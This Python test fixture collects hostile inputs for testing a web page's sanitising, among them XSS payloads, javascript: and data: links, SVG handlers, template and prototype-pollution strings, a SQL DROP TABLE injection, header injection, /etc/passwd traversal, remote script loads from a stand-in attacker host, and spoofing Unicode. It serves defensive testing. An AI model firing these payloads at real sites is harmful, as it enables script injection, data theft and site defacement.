"""Texts that a careless page would run, follow, or be pulled apart by; each calls `ran` if run.

Written for these tests.
"""

# ruff: noqa: RUF001 - letters that look like others are part of what is hostile

from __future__ import annotations

TAGS = [
    "<script>ran()</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "</script><script>ran()</script>",
    "</textarea></title></style><script>ran()</script>",
    "<!--><script>ran()</script-->",
    "<![CDATA[<script>ran()</script>]]>",
    '"><script>ran()</script>',
    "'><script>ran()</script>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<iframe src='javascript:parent.ran()'></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<object data='data:text/html,<script>ran()</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload=ran()>'>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<template><script>ran()</script></template>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    "<b>bold</b> <i>italic</i> <h1>large</h1> &lt;script&gt; &#60;b&#62; &amp;",
    "<plaintext>",
    "<dialog open>x</dialog>",
    "<custom-element is=x>",
]
HANDLERS = [
    "<img src=x onerror=ran()>",
    "<img src=http://evil.example/x.png>",
    "<img/src/onerror=ran()>",
    '" onmouseover="ran()" x="',
    "' autofocus onfocus='ran()",
    "` onfocus=ran() autofocus `",
    "<body onload=ran()>",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()><summary>x</summary></details>",
    "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()>",
    "<marquee onstart=ran()>x</marquee>",
    "<a href='x' onclick='ran()'>x</a>",
    "<form action=javascript:ran()><button>x</button></form>",
    "<p style='position:fixed;inset:0' onpointerenter=ran()>x</p>",
]
LINKS = [
    "javascript:ran()",
    "JaVaScRiPt:ran()",
    "java\tscript:ran()",
    "javascript://example.org/%0Aran()",
    "data:text/html,<script>ran()</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
    "vbscript:ran()",
    "blob:http://evil.example/x",
    "file:///etc/passwd",
    "[x](javascript:ran())",
    "<javascript:ran()>",
    "https://example.org/\"onmouseover='ran()'",
    "https://example.org/'><script>ran()</script>",
    "https://user:secret@evil.example/?<b>",
    "http://javascript:ran()@example.org/",
    "mailto:a@example.org?subject=<script>ran()</script>",
    "https://аррӏе.com/ http://раураl.com/",
    "http://[::1]:99999/ http:// https:// mailto: http://%",
    "//evil.example/x",
]
SVG = [
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x></svg>",
    "<svg><a xlink:href='javascript:ran()'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=ran()>#x'/></svg>",
]
TEMPLATES = [
    "${ran()}",
    "${'a'.constructor.constructor('ran()')()}",
    "`${ran()}`",
    "{{ran()}} {{constructor.constructor('ran()')()}}",
    "<%= ran() %> #{ran()} {% ran %}",
    "<${ran} /> <//> <${'script'}>ran()<//>",
    "html`<b onclick=${ran}>x</b>`",
    "{name} {count} {language} {text}",
    "__proto__",
    "constructor",
    '{"__proto__": {"html": true}, "type": "b", "props": {"dangerouslySetInnerHTML": 1}}',
    "$& $1 $` $' $$",
    "%s %d %n %00 %0d%0aSet-Cookie:%20x=y",
    "../../../etc/passwd",
    "'; DROP TABLE messages; --",
    '{"$where": "ran()"}',
]
LETTERS = [
    "\u202eesrever\u202c and on",
    "a\u202e\u202e\u202e never ended",
    "\u2066\u2067\u2068 isolates \u2069",
    "\u200f\u200e\u061c marks",
    "photo\u202egpj.exe",
    "الس\u202dلام abc \u05d0\u05d1\u05d2",
    "Z" + "\u0300\u0301\u0302\u0303\u0304\u0323\u0324\u0325\u0489" * 12 + "algo",
    "\u0301\u0301\u0301 x",
    "\u200b\u200b\u200bx\u2060\ufeffx",
    "x\u2028y\u2029z",
    "ﷺ﷽ 𒐫𒐫𒐫 ꧅꧅",
    "🏳\ufe0f\u200d🌈\u200d\u200d👨\u200d👩\u200d👧" * 6,
    "\ufffd\ufffe\U0010fffd x",
    "null",
    "undefined",
    "NaN",
    "[object Object]",
    "true",
    "-1",
    "0",
]
LONG = ["W" * 10_000, "🙂" * 3_000, "https://example.org/" + "a" * 5_000, "a\n" * 2_000]

CORPUS = [*TAGS, *HANDLERS, *LINKS, *SVG, *TEMPLATES, *LETTERS, *LONG]
# What the server takes as a name: 80 characters at most, no needless space.
NAMES = [text for text in CORPUS if len(text) <= 80 and " ".join(text.split()) == text]
NAMES += ["W" * 80, "\u0301x" * 40, "🙂" * 80]
